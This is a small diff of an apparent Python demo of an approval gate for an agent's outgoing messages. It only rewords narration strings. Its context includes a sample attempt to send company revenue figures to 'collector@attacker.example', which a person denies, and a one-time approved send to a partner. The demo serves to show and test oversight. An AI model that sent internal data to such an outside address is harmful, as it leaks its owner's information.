@@ -200,7 +200,7 @@ async def _ask_a_person(stage: Stage) -> None:
         await send(to="collector@attacker.example", text="All reports: revenue is up 4 %.")
         _answer(stage, "deny", "not requested")
         await send(to="collector@attacker.example", text="All reports: revenue is up 4 %.")
-        note("An odd request can be right: the document also says who else must know.")
+        note("An unusual request can be right: the document also names the other recipients.")
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
         _answer(stage, "approve", "Cleo may know")
         note("The yes is for just that, once: not for other words, nor for a second time.")
@@ -208,7 +208,7 @@ async def _ask_a_person(stage: Stage) -> None:
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
         await send(to="cleo@partner.example", text="Q3 was up 4 %.")
     sent = (stage.sandbox / "outbox.txt").read_text("utf-8").splitlines()
-    say(f"what went out: {', '.join(line.partition(':')[0] for line in sent)}")
+    say(f"sent messages: {', '.join(line.partition(':')[0] for line in sent)}")
     note("Each step is in the ledger, the newest first.")
     draw(stage, "audit", "search", "--task", task, wraps=True)
 
